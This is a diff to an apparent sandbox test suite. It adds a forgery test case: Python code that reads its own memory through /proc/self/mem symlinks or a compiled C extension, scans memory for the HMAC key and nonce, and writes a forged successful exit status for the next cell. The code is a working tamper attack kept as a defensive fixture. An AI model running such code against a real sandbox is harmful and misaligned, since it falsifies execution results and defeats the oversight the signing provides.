@@ -196,6 +196,96 @@ for _ in range(100):
     time.sleep(0.01)
 """], pass_fds=fds, start_new_session=True)
 print("patched")`},
+	// Reads the key out of the kernel's memory, then signs an exit status 0
+	// for the next cell from its stub (a wrapped __import__): the cell's
+	// request (__cf_b) is in the namespace until the driver takes it, and
+	// the key is whichever 32-byte bytes object makes its tag. The ways in
+	// are /proc/PID/mem (the kernel is not dumpable: its file is root's, and
+	// the hook refuses it too) and an extension module the cell builds with
+	// the sandbox's gcc (where it has Python's headers: bwrap's /usr). A
+	// link to mem another process swaps in between the hook's check and the
+	// open, or one opened through dir_fd, is not tried: only dumpability
+	// stops those (docs/sandbox.md).
+	{"the kernel's memory read, the key found, a status signed", `
+import builtins, os, struct, subprocess, sys
+import _hashlib
+mac = _hashlib.hmac_digest
+state = {}
+PEEK = r"""
+#include <Python.h>
+static PyObject *peek(PyObject *self, PyObject *args) {
+    unsigned long long at; Py_ssize_t n;
+    if (!PyArg_ParseTuple(args, "Kn", &at, &n)) return NULL;
+    return PyBytes_FromStringAndSize((const char *)at, n);
+}
+static PyMethodDef methods[] = {{"peek", peek, METH_VARARGS, ""}, {NULL}};
+static struct PyModuleDef def = {PyModuleDef_HEAD_INIT, "peek", NULL, -1, methods};
+PyMODINIT_FUNC PyInit_peek(void) { return PyModule_Create(&def); }
+"""
+def built():
+    open("peek.c", "w").write(PEEK)
+    subprocess.run(["gcc", "-shared", "-fPIC", "-I/usr/include/python3.11", "-o", "peek.so", "peek.c"], check=True,
+                   capture_output=True)
+    return __import__("peek").peek
+def through(path):
+    fd = os.open(path, os.O_RDONLY)
+    return lambda at, n: os.pread(fd, n, at)
+steps = (("a link made here", lambda: os.symlink("/proc/self/mem", "m1") or through("m1")),
+         ("a link another process made", lambda: subprocess.run(["ln", "-s", "/proc/%d/mem" % os.getpid(), "m2"], check=True) and through("m2")),
+         ("a path object", lambda: through(__import__("pathlib").Path("/proc/self/mem"))),
+         ("an extension module built here", built))
+for name, step in steps:
+    try:
+        state["read"] = step()
+        print("allowed:", name)
+        break
+    except Exception as e:
+        print("refused:", name, type(e).__name__)
+
+def bytes_objects(read, sizes):
+    # A bytes object: refcount, type, size, hash, then its bytes.
+    head = {struct.pack("<Qq", id(bytes), n): n for n in sizes}
+    found = {n: set() for n in sizes}
+    for line in open("/proc/self/maps"):
+        span, perms = line.split()[:2]
+        if not perms.startswith("rw"):
+            continue
+        lo, hi = (int(x, 16) for x in span.split("-"))
+        try:
+            data = read(lo, hi - lo)
+        except OSError:
+            continue
+        for pat, n in head.items():
+            i = data.find(pat)
+            while i >= 0:
+                found[n].add(data[i + 24:i + 24 + n])
+                i = data.find(pat, i + 1)
+    return found
+
+def sign():
+    g = sys.modules["__main__"].__dict__
+    blob, kind, fd = g.get("__cf_b"), g.get("__cf_k"), g.get("__cf_f")
+    if "read" not in state or not isinstance(blob, bytes) or state.get("done") == blob:
+        return
+    state["done"] = blob
+    found = bytes_objects(state["read"], (16, 32))
+    for body in (blob, blob[:-32]):
+        for key in found[32]:
+            for nonce in found[16]:
+                if mac(key, nonce + kind + body, "sha256") in found[32]:
+                    os.write(fd, b"R 0")
+                    os.write(fd, b"E" + nonce + mac(key, b"E" + nonce, "sha256"))
+                    return
+
+real_import = builtins.__import__
+def forged(*a, **k):
+    try:
+        sign()
+    except Exception:
+        pass
+    return real_import(*a, **k)
+builtins.__import__ = forged
+print("patched")`},
 }
 
 // bashForgeries are bash session cells that try to make a later cell's
